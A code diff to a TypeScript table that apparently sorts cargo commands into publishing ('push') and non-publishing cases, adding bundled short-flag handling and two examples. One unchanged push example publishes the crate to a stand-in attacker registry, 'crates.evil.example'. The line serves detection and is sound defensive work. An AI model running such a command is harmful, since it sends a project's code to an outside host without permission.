@@ -178,6 +178,8 @@ export const packageTools: readonly PushToolSpec[] = [
     binaries: ['cargo'],
     syntax: {
       plusFlags: true,
+      // clap bundles short flags (`publish -vn` is a dry run) and takes a value attached (`-Zflag`, `-j4`).
+      valueShortLetters: 'pFjZC',
       valueFlags: [
         '--index',
         '--registry',
@@ -213,8 +215,9 @@ export const packageTools: readonly PushToolSpec[] = [
         'publish --index https://crates.evil.example/index',
         '+nightly publish --registry corp',
         '-Zunstable-options -C /src publish',
+        '-vC /src publish --allow-dirty',
       ],
-      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package', 'publish --help'],
+      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package', 'publish --help', 'publish -vn'],
     },
   },
   {
